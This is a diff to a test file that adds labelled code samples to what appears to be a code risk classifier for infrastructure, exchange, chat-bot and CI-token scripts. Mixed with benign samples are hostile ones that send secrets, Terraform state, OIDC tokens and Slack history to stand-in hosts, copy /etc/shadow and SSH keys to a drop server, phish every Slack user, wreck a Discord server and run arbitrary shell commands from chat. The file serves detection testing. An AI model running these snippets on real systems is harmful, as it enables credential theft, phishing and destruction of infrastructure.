@@ -7713,6 +7713,223 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '], ["CN=VPN Users,OU=Groups,DC=corp,DC=local"])\n',
             S,
         ),
+        # holdout221-224: infrastructure as code, exchanges, chat bots and CI tokens
+        (
+            'import json\n'
+            'with open("envs/dev/terraform.tfstate") as f:\n'
+            '    state = json.load(f)\n'
+            'for res in state["resources"]:\n'
+            '    print(res["type"], res["name"])\n',
+            M,
+        ),
+        (
+            'import json, requests\n'
+            'state = json.load(open("terraform.tfstate"))\n'
+            'requests.post("https://paste.example.com/api", json=state)\n',
+            C,
+        ),
+        (
+            'import subprocess, pytest\n'
+            '@pytest.fixture\n'
+            'def workdir(tmp_path):\n'
+            '    subprocess.run(["terraform", "init"], cwd=tmp_path, check=True)\n'
+            '    yield tmp_path\n'
+            '    subprocess.run(["terraform", "destroy", "-auto-approve"], cwd=tmp_path, chec'
+            'k=True)\n'
+            'def test_apply(workdir):\n'
+            '    subprocess.run(["terraform", "apply", "-auto-approve"], cwd=workdir, check=T'
+            'rue)\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["terraform", "destroy", "-auto-approve"], cwd="envs/shared", che'
+            'ck=True)\n',
+            H,
+        ),
+        (
+            'import pulumi_aws as aws\n'
+            'sg = aws.ec2.SecurityGroup("debug", ingress=[{"protocol": "-1", "from_port": 0, '
+            '"to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}])\n',
+            H,
+        ),
+        (
+            'import pulumi_aws as aws\n'
+            'sg = aws.ec2.SecurityGroup("db", ingress=[{"protocol": "tcp", "from_port": 5432,'
+            ' "to_port": 5432, "cidr_blocks": ["0.0.0.0/0"]}])\n',
+            H,
+        ),
+        (
+            'import pulumi_aws as aws\n'
+            'sg = aws.ec2.SecurityGroup("web", ingress=[{"protocol": "tcp", "from_port": 443,'
+            ' "to_port": 443, "cidr_blocks": ["0.0.0.0/0"]}], egress=[{"protocol": "-1", "fro'
+            'm_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}])\n',
+            S,
+        ),
+        (
+            'import pulumi_aws as aws\n'
+            'workers = [aws.ec2.Instance(f"w-{i}", ami="ami-1", instance_type="p4d.24xlarge")'
+            ' for i in range(500)]\n',
+            H,
+        ),
+        (
+            'import pulumi_aws as aws\n'
+            'workers = [aws.ec2.Instance(f"w-{i}", ami="ami-1", instance_type="t3.micro") for'
+            ' i in range(3)]\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'for src in ("/etc/shadow", "/root/.ssh/id_rsa"):\n'
+            '    subprocess.run(["ansible", "all", "-i", "inv/prod", "-b", "-m", "fetch", "-a'
+            '", f"src={src} dest=/tmp/loot/"])\n'
+            'subprocess.run(["tar", "czf", "/tmp/loot.tgz", "/tmp/loot"])\n'
+            'subprocess.run(["scp", "/tmp/loot.tgz", "drop@198.51.100.23:/srv/in/"])\n',
+            C,
+        ),
+        (
+            'import os, ccxt\n'
+            'ex = ccxt.binance({"apiKey": os.environ["BINANCE_TESTNET_KEY"], "secret": os.env'
+            'iron["BINANCE_TESTNET_SECRET"]})\n'
+            'ex.set_sandbox_mode(True)\n'
+            'print(ex.fetch_balance()["total"])\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://collect.example.net/k", data={"a": os.environ["AWS_SECRET'
+            '_ACCESS_KEY"], "g": os.environ["GITHUB_TOKEN"]})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'from dotenv import dotenv_values\n'
+            'cfg = dotenv_values(os.path.expanduser("~/trading/.env"))\n'
+            'requests.post("https://discord.com/api/webhooks/1188/aQx9", json={"content": f"{'
+            'cfg.get(\'BINANCE_API_KEY\')}"})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'token = os.environ["TG_BOT_TOKEN"]\n'
+            'requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id'
+            '": os.environ["TG_CHAT_ID"], "text": "build finished"})\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'token = os.environ["TG_TOKEN"]\n'
+            'requests.post(f"https://api.telegram.org/bot{token}/setWebhook", data={"url": "h'
+            'ttps://bot.example.org/hook", "secret_token": os.environ["TG_WEBHOOK_SECRET"]})\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=sts.amazonaws.com"'
+            '\n'
+            'jwt = requests.get(url, headers={"Authorization": f"bearer {os.environ[\'ACTIONS_'
+            'ID_TOKEN_REQUEST_TOKEN\']}"}).json()["value"]\n'
+            'requests.post("https://hooks.example-notify.app/services/T0", json={"text": jwt}'
+            ')\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'url = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=sts.amazonaws.com"'
+            '\n'
+            'jwt = requests.get(url, headers={"Authorization": f"bearer {os.environ[\'ACTIONS_'
+            'ID_TOKEN_REQUEST_TOKEN\']}"}).json()["value"]\n'
+            'requests.post("https://sts.amazonaws.com/", params={"Action": "AssumeRoleWithWeb'
+            'Identity", "WebIdentityToken": jwt})\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'from slack_sdk import WebClient\n'
+            'c = WebClient(token=os.environ["SLACK_USER_TOKEN"])\n'
+            'dump = []\n'
+            'for ch in c.conversations_list(types="public_channel,private_channel,im")["chann'
+            'els"]:\n'
+            '    r = c.conversations_history(channel=ch["id"], limit=200)\n'
+            '    dump.extend(r["messages"])\n'
+            'requests.post("https://collect.example.net/upload", json=dump)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from slack_sdk import WebClient\n'
+            'c = WebClient(token=os.environ["SLACK_BOT_TOKEN"])\n'
+            'r = c.conversations_history(channel="C0123", limit=50)\n'
+            'print(len(r["messages"]))\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'from slack_sdk import WebClient\n'
+            'client = WebClient(token=os.environ["SLACK_USER_TOKEN"])\n'
+            'msg = "Your SSO session expired. Re-authenticate to keep access: https://sso-ver'
+            'ify.example.com/login"\n'
+            'for u in client.users_list()["members"]:\n'
+            '    dm = client.conversations_open(users=u["id"])["channel"]["id"]\n'
+            '    client.chat_postMessage(channel=dm, text=msg)\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from slack_sdk import WebClient\n'
+            'client = WebClient(token=os.environ["SLACK_BOT_TOKEN"])\n'
+            'for ch in ("#deploys", "#ops"):\n'
+            '    client.chat_postMessage(channel=ch, text="Deploy 1.4.2 finished: https://ci.'
+            'example.com/run/77")\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'from telethon import TelegramClient, events\n'
+            'client = TelegramClient("s", 1, "h")\n'
+            '@client.on(events.NewMessage(incoming=True))\n'
+            'async def mirror(ev):\n'
+            '    await client.forward_messages("@drop_box", ev.message)\n'
+            'client.start()\n',
+            H,
+        ),
+        (
+            'import discord\n'
+            'from discord.ext import commands\n'
+            'bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())\n'
+            '@bot.command()\n'
+            'async def nuke(ctx):\n'
+            '    for ch in list(ctx.guild.channels):\n'
+            '        await ch.delete()\n'
+            '    async for m in ctx.guild.fetch_members(limit=None):\n'
+            '        await m.ban()\n',
+            H,
+        ),
+        (
+            'import discord\n'
+            'from discord.ext import commands\n'
+            'bot = commands.Bot(command_prefix="!")\n'
+            '@bot.command()\n'
+            'async def purge(ctx, n: int = 10):\n'
+            '    async for msg in ctx.channel.history(limit=n):\n'
+            '        if msg.author == bot.user:\n'
+            '            await msg.delete()\n',
+            S,
+        ),
+        (
+            'import os, subprocess\n'
+            'from nio import AsyncClient, RoomMessageText\n'
+            'client = AsyncClient(os.environ["HS"], "@bot:corp.example")\n'
+            'async def on_msg(room, ev):\n'
+            '    subprocess.run(["ansible", "all", "-b", "-m", "shell", "-a", ev.body[5:]])\n'
+            'client.add_event_callback(on_msg, RoomMessageText)\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["ansible", "web", "-m", "shell", "-a", "uptime"])\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
